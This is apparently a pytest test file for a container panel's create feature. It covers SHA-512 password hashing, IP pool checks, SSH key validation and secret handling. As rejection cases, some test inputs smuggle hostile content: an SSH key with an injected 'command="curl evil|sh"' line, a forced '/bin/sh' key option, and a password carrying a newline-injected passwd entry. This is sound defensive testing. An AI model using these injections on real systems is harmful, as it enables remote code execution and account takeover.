"""Issue 18, create: addresses, a root password and SSH keys given at create time, and the defaults a
create uses shown before it. Everything is checked before anything is made; the password leaves
the request only as a SHA-512 crypt hash, through a one-shot Redis key."""
from __future__ import annotations

import subprocess

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from rest_framework.test import APIClient

from accounts.models import AuditEvent
from containers import services
from containers.models import Container
from network.models import IPAddress, IPPool
from panel.shacrypt import SHA512_CRYPT_RE, sha512_crypt
from tasks.models import Task

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop"
RSA_BLOB_AS_ED25519 = "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
PASSWORD = "s3cret:with colon"  # ':' is fine: only its hash is ever written


# -- SHA-512 crypt ----------------------------------------------------------------------------------
@pytest.mark.parametrize("password,salt,rounds,expected", [
    # The specification's own test vectors (Drepper, "Unix crypt using SHA-256 and SHA-512").
    ("Hello world!", "saltstring", 5000,
     "$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1"),
    ("Hello world!", "saltstringsaltstring", 10000,
     "$6$rounds=10000$saltstringsaltst$OW1/O6BYHV6BcXZu8QVeXbDWra3Oeqh0sbHbbMCVNSnCM/UrjmM0Dp8vOuZeHBy/YTBmSK6H9qs/"
     "y3RnOaw5v."),
    ("we have a short salt string but not a short password", "short", 77777,
     "$6$rounds=77777$short$WuQyW2YR.hBNpjjRhpYD/ifIw05xdfeEyQoMxIXbkvr0gge1a1x3yRULJ5CCaUeOxFmtlcGZelFl5CxtgfiAc0"),
])
def test_sha512_crypt_matches_the_specification(password, salt, rounds, expected):
    assert sha512_crypt(password, salt, rounds) == expected


@pytest.mark.parametrize("password", ["a", PASSWORD, "wörd with ünïcode", "x" * 256, "ж" * 128, "p" * 63, "p" * 64, "p" * 65])
def test_sha512_crypt_matches_openssl(password):
    salt = sha512_crypt("salt source")[3:19]
    made = subprocess.run(["openssl", "passwd", "-6", "-salt", salt, "-stdin"], input=password + "\n",
                          capture_output=True, text=True, check=True).stdout.strip()
    assert sha512_crypt(password, salt) == made
    assert SHA512_CRYPT_RE.fullmatch(made)


def test_each_hash_has_its_own_salt():
    assert sha512_crypt(PASSWORD) != sha512_crypt(PASSWORD)


# -- checked once, before anything is made -----------------------------------------------------------
@pytest.fixture
def pools(acme, other_tenant, host):
    mine = IPPool.objects.create(name="acme-net", network="198.51.100.0/24", ranges="198.51.100.10-198.51.100.19",
                                 gateway="198.51.100.1")
    mine.tenants.add(acme)
    theirs = IPPool.objects.create(name="other-net", network="203.0.113.0/24")
    theirs.tenants.add(other_tenant)
    return mine, theirs


def create(user, ctid, host, template_name, **kw):
    return services.create_container(user=user, ctid=ctid, ostemplate=template_name, hostname=f"c{ctid}.test",
                                     host=host, **kw)


def assert_nothing_made(ctid):
    assert not Container.objects.filter(ctid=ctid).exists()
    assert not Task.objects.filter(ctid=ctid).exists()
    assert not IPAddress.objects.filter(container__ctid=ctid).exists()


@pytest.mark.parametrize("kw,words", [
    ({"addresses": ["203.0.113.7"]}, "not in an IP pool of tenant acme"),  # another tenant's address
    ({"addresses": ["198.51.100.1"]}, "reserved in pool acme-net"),          # the gateway
    ({"addresses": ["198.51.100.40"]}, "reserved in pool acme-net"),         # outside the pool's ranges
    ({"addresses": ["192.0.2.9"]}, "not in an IP pool of tenant acme"),    # outside every pool
    ({"addresses": ["127.0.0.1"]}, "loopback"),
    ({"addresses": ["not-an-address"]}, "is not an IP address"),
    ({"addresses": ["198.51.100.10", "198.51.100.10"]}, "given twice"),
    ({"addresses": ["auto"], "ip_pool": "other-net"}, "no pool 'other-net'"),
    ({"ssh_public_keys": [ED25519 + "\ncommand=\"curl evil|sh\" " + ED25519]}, "not one line"),
    ({"ssh_public_keys": [ED25519 + "\r"]}, "not one line"),
    ({"ssh_public_keys": ["command=\"/bin/sh\" " + ED25519]}, "not an SSH public key"),
    ({"ssh_public_keys": [RSA_BLOB_AS_ED25519]}, "damaged"),
    ({"ssh_public_keys": ["ssh-ed25519 AAAA!!!notbase64!!!AAAAAAAAAAAAAAAA"]}, "not an SSH public key"),
    ({"ssh_public_keys": ED25519}, "as a list"),
    ({"root_password": "short"}, "8 to 256 characters"),
    ({"root_password": "x" * 257}, "8 to 256 characters"),
    ({"root_password": "ж" * 256}, "at most 511 bytes"),
    ({"root_password": "line\nroot2::0:0:::"}, "line breaks"),
    ({"root_password": "nul\x00byte-password"}, "line breaks or NUL"),
])
def test_a_bad_field_refuses_the_whole_create(people, acme, plan, host, template_name, pools, kw, words):
    with pytest.raises(services.TaskError, match=words):
        create(people["tadmin"], 9480, host, template_name, tenant=acme, plan=plan, **kw)
    assert_nothing_made(9480)
    refusal = AuditEvent.objects.get(action="container.create", result="refused")
    assert "line\n" not in refusal.detail and "nul\x00" not in refusal.detail


def test_an_address_in_use_refuses_the_create_naming_only_what_the_user_may_see(people, acme, plan, host,
                                                                                template_name, pools, other_tenant,
                                                                                redis_conn):
    create(people["tadmin"], 9481, host, template_name, tenant=acme, plan=plan, addresses=["198.51.100.10"])
    with pytest.raises(services.TaskError, match="198.51.100.10 is already used by container 9481"):
        create(people["tadmin"], 9482, host, template_name, tenant=acme, plan=plan, addresses=["198.51.100.10"])
    assert_nothing_made(9482)
    # Another tenant's container in acme's pool (an administrator put it there): acme learns nothing of it.
    theirs = Container.objects.create(ctid=9483, hostname="t.test", ostemplate=template_name, host=host,
                                      tenant=other_tenant, status="stopped")
    IPAddress.objects.create(address="198.51.100.11", container=theirs)
    with pytest.raises(services.TaskError, match="used by a container you cannot see"):
        create(people["tadmin"], 9484, host, template_name, tenant=acme, plan=plan, addresses=["198.51.100.11"])
    assert_nothing_made(9484)


def test_auto_takes_the_next_free_address_of_the_tenants_pool_within_the_quota(people, acme, plan, host,
                                                                               template_name, pools, redis_conn):
    acme.max_ips = 2
    acme.save()
    task = create(people["tadmin"], 9485, host, template_name, tenant=acme, plan=plan,
                  addresses=["auto", "198.51.100.15"])
    assert task.params["addresses"] == ["198.51.100.10", "198.51.100.15"]
    assert set(IPAddress.objects.filter(container__ctid=9485).values_list("address", flat=True)) == {
        "198.51.100.10", "198.51.100.15"}
    with pytest.raises(services.TaskError, match="(?i)quota"):
        create(people["tadmin"], 9486, host, template_name, tenant=acme, plan=plan, addresses=["auto"])
    assert_nothing_made(9486)


def test_the_password_reaches_the_agent_only_as_a_hash_in_a_one_shot_key(people, acme, plan, host, template_name,
                                                                         redis_conn):
    from tasks.secrets import HASH_TTL_SECONDS
    task = create(people["tadmin"], 9487, host, template_name, tenant=acme, plan=plan, root_password=PASSWORD,
                  ssh_public_keys=[ED25519, ED25519])
    task.refresh_from_db()
    assert task.params["root_password"] is True and task.params["ssh_public_keys"] == [ED25519]
    key = f"vzpanel:task-secret:{host.name}:{task.pk}"
    assert 0 < redis_conn.ttl(key) <= HASH_TTL_SECONDS
    hashed = redis_conn.get(key).decode()
    assert SHA512_CRYPT_RE.fullmatch(hashed) and sha512_crypt(PASSWORD, hashed.split("$")[2]) == hashed
    stored = [str(task.params), task.log, str(task.result), *AuditEvent.objects.values_list("detail", flat=True)]
    assert not any(PASSWORD in text or hashed in text for text in stored)
    assert redis_conn.getdel(key).decode() == hashed and redis_conn.get(key) is None  # the agent's GETDEL


def test_addresses_passwords_and_keys_are_for_creates_from_a_template(people, acme, plan, host, template_name):
    from tasks.choices import TaskType
    with pytest.raises(services.TaskError, match="creating from a template"):
        create(people["tadmin"], 9488, host, template_name, tenant=acme, plan=plan, root_password=PASSWORD,
               task_type=TaskType.CT_RESTORE)
    assert_nothing_made(9488)


# -- the form, the API and vzctl ----------------------------------------------------------------------
def test_the_create_form_shows_every_default_and_never_echoes_the_password(client, admin_user, host, template_name,
                                                                          plan):
    client.force_login(admin_user)
    page = client.get("/containers/new/").content.decode()
    for text in ("512 MiB (or the plan&#x27;s)", "2048 MiB (2 GiB)", "0 MiB", "Inodes", "220000", "CPU units", "1000",
                 "I/O priority", "the host with the most room", "Root password", "SSH public keys for root", "IP addresses",
                 "vps.basic", "256 MiB", "Empty: the plan&#x27;s, or 512 without one."):
        assert text in page, text
    resp = client.post("/containers/new/", {"ctid": "9489", "hostname": "f.test", "ostemplate": template_name,
                                            "host": host.pk, "root_password": PASSWORD,
                                            "root_password_confirm": PASSWORD + "x",
                                            "ssh_public_keys": ED25519 + "\ncommand=\"x\" " + ED25519,
                                            "ipadd": "198.51.100.5, junk"})
    assert resp.status_code == 400
    text = resp.content.decode()
    assert PASSWORD not in text
    assert "The two passwords differ." in text and "SSH key 2 is not an SSH public key" in text
    assert "&#x27;junk&#x27; is not an IP address" in text
    assert_nothing_made(9489)


def test_the_api_takes_the_new_fields(admin_user, host, template_name, redis_conn):
    IPPool.objects.create(name="api-net", network="198.51.100.0/24", ranges="198.51.100.30-198.51.100.39")
    api = APIClient()
    api.force_authenticate(admin_user)
    resp = api.post("/api/containers/", {"ctid": 9490, "ostemplate": template_name, "hostname": "a.test",
                                         "host": host.name, "ipadd": ["auto"], "ip_pool": "api-net",
                                         "root_password": PASSWORD, "ssh_public_keys": [ED25519]}, format="json")
    assert resp.status_code == 202, resp.content
    assert PASSWORD not in resp.content.decode()
    assert resp.json()["task"]["params"]["addresses"] == ["198.51.100.30"]
    resp = api.post("/api/containers/", {"ctid": 9491, "ostemplate": template_name, "hostname": "b.test",
                                         "host": host.name, "ssh_public_keys": ["ssh-ed25519 AAAA\ncommand=x"]},
                    format="json")
    assert resp.status_code == 400 and "not one line" in resp.json()["detail"]
    assert_nothing_made(9491)


def test_vzctl_create_takes_ipadd_userpasswd_and_a_key_file(admin_user, host, template_name, tmp_path, monkeypatch,
                                                            capsys, redis_conn):
    monkeypatch.setattr("containers.management.commands.vzctl.finish_task", lambda task, out, **kw: task)
    IPPool.objects.create(name="cli-net", network="198.51.100.0/24", ranges="198.51.100.50-198.51.100.59")
    keys = tmp_path / "keys.pub"
    keys.write_text(f"# alice\n{ED25519}\n\n")
    call_command("vzctl", "--user", admin_user.username, "create", "9492", "--ostemplate", template_name,
                 "--host", host.name, "--ipadd", "auto", "--pool", "cli-net", "--userpasswd", f"root:{PASSWORD}",
                 "--ssh-public-keys", str(keys))
    out = capsys.readouterr().out
    for text in ("RAM 512 MiB", "swap 0 MiB", "1 CPU", "disk 2048 MiB", "addresses 198.51.100.50",
                 "root password set", "1 SSH key"):
        assert text in out, out
    task = Task.objects.get(ctid=9492)
    assert task.params["ssh_public_keys"] == [ED25519] and PASSWORD not in str(task.params)
    keys.write_text(f"{ED25519}\ncommand=\"x\" {ED25519}\n")
    with pytest.raises(CommandError, match="SSH key 2 is not an SSH public key"):
        call_command("vzctl", "--user", admin_user.username, "create", "9493", "--ostemplate", template_name,
                     "--host", host.name, "--ssh-public-keys", str(keys))
    with pytest.raises(CommandError, match="root:PASSWORD at create"):
        call_command("vzctl", "--user", admin_user.username, "create", "9493", "--ostemplate", template_name,
                     "--host", host.name, "--userpasswd", "alice:whatever-pass")
    assert_nothing_made(9493)
